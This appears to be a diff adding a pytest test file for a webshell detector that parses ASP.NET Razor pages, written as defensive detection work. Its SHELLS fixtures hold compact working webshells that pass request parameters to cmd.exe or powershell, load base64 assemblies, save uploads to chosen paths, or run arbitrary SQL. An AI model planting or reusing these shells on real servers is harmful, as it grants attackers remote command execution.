@@ -1,0 +1,284 @@
+"""Razor pages (`.cshtml`, `.vbhtml`): ASP.NET Web Pages serve them by name, MVC and ASP.NET Core
+render them, and their `@` code runs on the server as a WebForms page's does
+(docs/detection/webshell-code.md, "Razor pages"). Their code is read at its own lines; markup,
+comments, addresses and the views of real applications are not code."""
+
+from __future__ import annotations
+
+import json
+import time
+from pathlib import Path
+
+import pytest
+
+from code_support import assert_benign, assert_found, prefilter_reads, run
+from exhunt.cli import main
+from exhunt.codeanalysis.extract import UnitKind
+from exhunt.codeanalysis.razor import MAX_DEPTH, razor
+
+SHELLS = [
+    (
+        "web-pages-cmd.cshtml",
+        "@using System.Diagnostics\n"
+        "@{\n"
+        '    var output = "";\n'
+        "    if (IsPost) {\n"
+        '        var psi = new ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]);\n'
+        "        psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\n"
+        '        <p>Running @Request.Form["c"]</p>\n'
+        "        output = Process.Start(psi).StandardOutput.ReadToEnd();\n"
+        "    }\n"
+        "}\n"
+        '<form method="post"><input name="c" /></form>\n<pre>@output</pre>\n',
+        "EXH-WS-CODE-PROCESS",
+        ["form field 'c'", "runs it as a command"],
+        5,
+    ),
+    (
+        "core-page.cshtml",
+        '@page\n@{ var c = Request.Query["cmd"]; }\n<p>@System.Diagnostics.Process.Start("cmd.exe", "/c " + c).Id</p>\n',
+        "EXH-WS-CODE-PROCESS",
+        ["query parameter 'cmd'", "Process.Start"],
+        3,
+    ),
+    (
+        "explicit-expression.cshtml",
+        '<pre>@(System.Diagnostics.Process.Start("powershell.exe", Request["p"]).Id)</pre>\n',
+        "EXH-WS-CODE-PROCESS",
+        ["request parameter 'p'"],
+        1,
+    ),
+    (
+        "functions-loader.cshtml",
+        "@functions {\n"
+        "    void Run(string b64) {\n"
+        "        var asm = System.Reflection.Assembly.Load(Convert.FromBase64String(b64));\n"
+        '        asm.CreateInstance("X").Equals(this);\n'
+        "    }\n"
+        "}\n"
+        '@{ Run(Request["d"]); }\n',
+        "EXH-WS-CODE-ASSEMBLY",
+        ["request parameter 'd'", "base64-decodes it", "loads it as an assembly"],
+        3,
+    ),
+    (
+        "upload-anywhere.cshtml",
+        "@if (Request.Files.Count > 0) {\n"
+        "    var f = Request.Files[0];\n"
+        "    <text>saving @f.FileName</text>\n"
+        '    f.SaveAs(Server.MapPath("~/") + Request["path"]);\n'
+        "} else {\n"
+        '    <form method="post" enctype="multipart/form-data"><input type="file" name="f" /></form>\n'
+        "}\n",
+        "EXH-WS-CODE-FILE-WRITE",
+        ["request parameter 'path'", "uploaded file"],
+        4,
+    ),
+    (
+        "sql-console.cshtml",
+        "@{\n"
+        '    var con = new System.Data.SqlClient.SqlConnection(Request["cs"]);\n'
+        "    con.Open();\n"
+        '    var cmd = new System.Data.SqlClient.SqlCommand(Request["q"], con);\n'
+        "}\n<p>@cmd.ExecuteScalar()</p>\n",
+        "EXH-WS-CODE-SQL-QUERY",
+        ["request parameter 'q'"],
+        4,
+    ),
+    (
+        "markup-lines-in-code.cshtml",
+        "@{\n"
+        '    var c = Request["c"];\n'
+        "    @:Command: @c\n"
+        '    <div class="out">@c, don\'t stop</div>\n'
+        '    System.Diagnostics.Process.Start("cmd.exe", "/c " + c);\n'
+        "}\n",
+        "EXH-WS-CODE-PROCESS",
+        ["request parameter 'c'"],
+        5,
+    ),
+    (
+        "switch-and-try.cshtml",
+        '@switch (Request["m"]) {\n'
+        '    case "x":\n'
+        "        <b>run</b>\n"
+        "        try {\n"
+        '            System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]);\n'
+        "        } catch (Exception ex) { <i>@ex.Message</i> }\n"
+        "        break;\n"
+        "}\n",
+        "EXH-WS-CODE-PROCESS",
+        ["request parameter 'c'"],
+        5,
+    ),
+    (
+        "section-with-code.cshtml",
+        "@section scripts {\n"
+        "    <script>var a = { b: 1 };</script>\n"
+        '    @{ System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); }\n'
+        "}\n",
+        "EXH-WS-CODE-PROCESS",
+        ["request parameter 'c'"],
+        3,
+    ),
+    (
+        "helper.cshtml",
+        '@helper Run(string c) {\n    <pre>@System.Diagnostics.Process.Start("cmd.exe", "/c " + c).Id</pre>\n}\n'
+        '@Run(Request["c"])\n',
+        "EXH-WS-CODE-PROCESS",
+        ["request parameter 'c'"],
+        2,
+    ),
+    (
+        "tag-attribute-expressions.cshtml",
+        '<input value="@Request["c"]" @if (IsPost) { <text>checked</text> } data-n="@(1 > 0)" />\n'
+        '@{ System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); }\n',
+        "EXH-WS-CODE-PROCESS",
+        ["request parameter 'c'"],
+        2,
+    ),
+    (
+        "vb-code-block.vbhtml",
+        "@Imports System.Diagnostics\n"
+        "@Code\n"
+        '    Dim c As String = Request("c")\n'
+        '    Dim p As New ProcessStartInfo("cmd.exe", "/c " & c)\n'
+        "    @<p>running @c</p>\n"
+        "    Process.Start(p)\n"
+        "End Code\n",
+        "EXH-WS-CODE-PROCESS",
+        ["request parameter 'c'"],
+        4,
+    ),
+    (
+        "vb-if-block.vbhtml",
+        "@If IsPost Then\n"
+        "    @<pre>posted</pre>\n"
+        '    Process.Start("cmd.exe", "/c " & Request.Form("x"))\n'
+        "End If\n"
+        '<p>@(Request("y"))</p>\n',
+        "EXH-WS-CODE-PROCESS",
+        ["form field 'x'"],
+        3,
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "code", "rule_id", "words", "line"), SHELLS, ids=[s[0] for s in SHELLS])
+def test_razor_shells_are_read_at_their_lines(name: str, code: str, rule_id: str, words: list[str], line: int) -> None:
+    report = assert_found(name, code, rule_id, words)
+    assert line in {c.line for c in report.capabilities if c.rule_id == rule_id}
+    assert report.problems == []
+
+
+BENIGN = [
+    (
+        "mvc-view.cshtml",
+        "@model IEnumerable<Shop.Models.Product>\n"
+        "@{\n"
+        '    ViewBag.Title = "Products";\n'
+        '    var returnUrl = Request.QueryString["returnUrl"];\n'
+        "}\n"
+        "<h2>@ViewBag.Title</h2>\n"
+        '@using (Html.BeginForm("Search", "Products", FormMethod.Get)) {\n'
+        '    @Html.TextBox("q", Request["q"], new { @class = "search" })\n'
+        '    <input type="submit" value="Search" />\n'
+        "}\n"
+        "<table>\n"
+        "@foreach (var item in Model) {\n"
+        '    <tr><td>@item.Name</td><td>@Html.ActionLink("Edit", "Edit", new { id = item.Id })</td></tr>\n'
+        "}\n"
+        '</table>\n<a href="@returnUrl">back</a>\n',
+    ),
+    (
+        "upload-to-own-folder.cshtml",
+        "@if (IsPost) {\n"
+        "    var file = Request.Files[0];\n"
+        "    var name = Path.GetFileName(file.FileName);\n"
+        '    file.SaveAs(Server.MapPath("~/App_Data/Uploads/" + name));\n'
+        "    <p>Saved @name. Questions: support@example.com</p>\n"
+        "}\n",
+    ),
+    (
+        "commented-out.cshtml",
+        '@* @{ System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); } *@\n'
+        "<p>Write @@Request to show the at sign; mail admin@example.com</p>\n"
+        '@{ var n = Request["n"]; @* Process.Start(n); *@ }\n',
+    ),
+    (
+        "fixed-tool.cshtml",
+        '@{ var p = System.Diagnostics.Process.Start("ping.exe", "-n 1 127.0.0.1"); }\n<p>@Request["q"]</p>\n',
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
+def test_views_markup_and_comments_are_not_shells(name: str, code: str) -> None:
+    assert_benign(name, code)
+
+
+def test_statements_members_and_imports_keep_their_lines() -> None:
+    text = (
+        "@using System.IO\n"  # 1
+        "<h1>t</h1>\n"  # 2
+        "@functions {\n"  # 3
+        "  int Twice(int x) { return 2 * x; }\n"  # 4
+        "}\n"  # 5
+        '@{ var a = Request["a"]; }\n'  # 6
+        "<p>@a</p>\n"  # 7
+    )
+    extracted, unread = razor(text, ".cshtml")
+    assert not unread
+    units = {u.kind: u for u in extracted.units}
+    statements = units[UnitKind.STATEMENTS].text.split("\n")
+    assert 'var a = Request["a"];' in statements[5] and "__out(a);" in statements[6]
+    members = units[UnitKind.MEMBERS]
+    assert "int Twice" in members.text.split("\n")[members.first_line - 1 + 1]
+    assert [(d.name, d.attrs["namespace"], d.line) for d in extracted.directives] == [("Import", "System.IO", 1)]
+
+
+def test_nesting_past_the_limit_is_a_problem_not_a_failure() -> None:
+    deep = (
+        "@{ <div> " * (MAX_DEPTH + 10)
+        + '@{ System.Diagnostics.Process.Start(Request["c"]); }'
+        + " </div> }" * (MAX_DEPTH + 10)
+    )
+    report = run("deep.cshtml", deep)
+    assert [p.kind for p in report.problems] == ["limit"]
+    assert "nested more than" in report.problems[0].message
+
+
+@pytest.mark.parametrize(
+    "piece",
+    ["@{", "@(", "@a(", "<div @if(x){", "@foreach(", '@{ "', "@*", "@section s {", "@Code\n", "@If x Then\n", "@<b>"],
+)
+def test_unclosed_constructs_cost_bounded_time(piece: str) -> None:
+    # A megabyte of one construct, never closed: read in about linear time, and no exception.
+    text = piece * (1_000_000 // len(piece))
+    for name in ("x.cshtml", "x.vbhtml"):
+        start = time.monotonic()
+        run(name, text)
+        assert time.monotonic() - start < 60, (piece, name)
+
+
+def test_the_prefilter_reads_razor_pages_only_when_they_name_request_data() -> None:
+    assert prefilter_reads("a.cshtml", '@{ var c = Request["c"]; }')
+    assert not prefilter_reads("b.cshtml", "@model X\n<h1>@Model.Title</h1>")
+
+
+def test_a_razor_shell_in_the_web_root_makes_the_host_compromised(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    page = tmp_path / "case" / "WEB01" / "C" / "inetpub" / "wwwroot" / "status.cshtml"
+    page.parent.mkdir(parents=True)
+    page.write_text(SHELLS[0][1], encoding="utf-8")
+    before = page.read_bytes()
+    code = main(["hunt", str(tmp_path / "case"), "--json", "-"])
+    doc = json.loads(capsys.readouterr().out)
+    assert code == 1
+    (host,) = doc["hosts"]
+    assert host["verdict"] == "compromised"
+    found = [f for f in host["findings"] if f["rule_id"] == "EXH-WS-CODE-PROCESS"]
+    assert found and all(f["evidence"]["path"].endswith("status.cshtml") for f in found)
+    assert {f["evidence"]["line"] for f in found} & {5, 8}
+    assert page.read_bytes() == before
